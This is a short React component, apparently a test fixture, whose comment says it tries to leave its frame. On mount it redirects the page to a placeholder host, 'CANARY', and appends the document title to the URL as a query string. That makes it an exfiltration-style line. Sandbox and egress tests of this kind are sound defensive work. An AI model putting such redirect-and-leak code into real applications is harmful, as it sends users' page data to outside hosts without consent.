// Tries to leave its frame for another address, taking what it knows along.
import { useEffect } from "react";

export default function Scene() {
  useEffect(() => {
    location.href = `http://CANARY/away?${document.title}`;
  }, []);
  return <h1>Leaving</h1>;
}
